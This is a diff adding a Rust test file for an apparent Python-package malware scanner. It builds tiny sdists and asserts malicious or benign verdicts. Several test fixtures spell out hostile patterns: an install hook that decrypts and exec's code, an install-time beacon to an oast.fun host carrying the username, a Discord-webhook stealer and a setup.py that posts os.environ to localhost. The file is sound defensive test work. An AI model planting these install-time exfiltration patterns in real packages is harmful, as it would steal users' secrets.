@@ -1,0 +1,106 @@
+//! Rules that came from the corpus misses and the top-1000 false positives,
+//! on small harmless packages of our own (payloads aim at 127.0.0.1 and at
+//! placeholder tokens): each malicious shape is caught, each benign look-alike
+//! is not.
+
+#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests")]
+
+use std::io::Write;
+
+use custody_inspect::analysis::{Report, Verdict, inspect};
+use custody_inspect::archive::{Limits, read};
+
+/// An sdist `pkg-1.0.tar.gz` with these files under `pkg-1.0/`.
+fn sdist(files: &[(&str, &str)]) -> Report {
+    let dir = tempfile::tempdir().unwrap();
+    let p = dir.path().join("pkg-1.0.tar.gz");
+    let gz = flate2::write::GzEncoder::new(
+        std::fs::File::create(&p).unwrap(),
+        flate2::Compression::fast(),
+    );
+    let mut t = tar::Builder::new(gz);
+    for (name, data) in files {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        h.set_cksum();
+        t.append_data(&mut h, format!("pkg-1.0/{name}"), data.as_bytes())
+            .unwrap();
+    }
+    t.into_inner().unwrap().finish().unwrap().flush().unwrap();
+    inspect(&read(&p, &Limits::default()).unwrap())
+}
+
+const SETUP: &str = "from setuptools import setup\nsetup(name='pkg')\n";
+
+#[test]
+fn fernet_encrypted_exec_in_an_install_command_is_malicious() {
+    let token = format!("gAAAAAB{}", "x".repeat(120));
+    let setup = format!(
+        "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        from fernet import Fernet\n        exec(Fernet(b'k').decrypt(b'{token}'))\nsetup(name='pkg', cmdclass={{'install': I}})\n"
+    );
+    let r = sdist(&[("setup.py", &setup)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn a_developer_command_in_setup_py_is_not_install_time() {
+    // `python setup.py upload` is run by maintainers, not by pip.
+    let setup = "import os, urllib.request\nfrom setuptools import setup, Command\nclass Upload(Command):\n    def run(self):\n        urllib.request.urlopen('http://127.0.0.1:9/')\n        os.system('twine upload dist/*')\nsetup(name='pkg', cmdclass={'upload': Upload})\n";
+    let r = sdist(&[("setup.py", setup)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn request_bin_probe_at_install_is_malicious() {
+    let setup = "import socket, getpass, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://abc.oast.fun/?u=' + getpass.getuser())\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", setup)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn a_chat_webhook_with_its_token_is_a_stealer_even_at_run_time() {
+    let token = "A".repeat(68);
+    let stealer = format!(
+        "import requests\nHOOK = 'https://discord.com/api/webhooks/123456789012345678/{token}'\ndef send(data):\n    requests.post(HOOK, json={{'content': data}})\n"
+    );
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &stealer)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A notification library that only names the service is not (the
+    // service's name at import is worth a look: suspicious).
+    let lib = "import requests\nDOCS = 'https://discord.com/api/webhooks'\ndef send(url, data):\n    requests.post(url, json=data)\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", lib)]);
+    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn builtins_looked_up_by_computed_names_are_obfuscation() {
+    let setup = "import sys\nfrom setuptools import setup\nf = getattr(__builtins__, oct.__str__()[-3] + 'xec')\nimport pip\npip.main(['install', 'x'])\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", setup)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn build_tools_outside_packages_and_env_copies_for_children_are_not_malicious() {
+    // A vendored build tree (no __init__.py) that downloads and runs tools,
+    // and a setup.py that copies the environment for a compiler.
+    let tool = "import os, urllib.request, subprocess\nurllib.request.urlretrieve('https://example.org/x.tar.gz', 'x.tar.gz')\nsubprocess.check_call(['make'])\n";
+    let setup = "import os, subprocess\nfrom setuptools import setup\nenv = os.environ.copy()\nsubprocess.check_call(['cc', '--version'], env=env)\nsetup(name='pkg')\n";
+    let r = sdist(&[
+        ("setup.py", setup),
+        ("third_party/tool/fetch.py", tool),
+        ("pkg/__init__.py", "VERSION = '1.0'\n"),
+    ]);
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+    // The same environment copy sent out is exfiltration.
+    let exfil = "import os, json, urllib.request\nfrom setuptools import setup\nenv = json.dumps(dict(os.environ))\nurllib.request.urlopen('http://127.0.0.1:9/', data=env.encode())\nsetup(name='pkg')\n";
+    let r = sdist(&[("setup.py", exfil)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn docstrings_that_show_code_are_not_code() {
+    let module = "\"\"\"Usage:\n\n    import requests, os\n    requests.get('http://example.org', auth=open(os.path.expanduser('~/.aws/credentials')).read())\n    wget https://example.org/data.tar.gz\n\"\"\"\nimport getpass\nUSER = getpass.getuser()\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+}
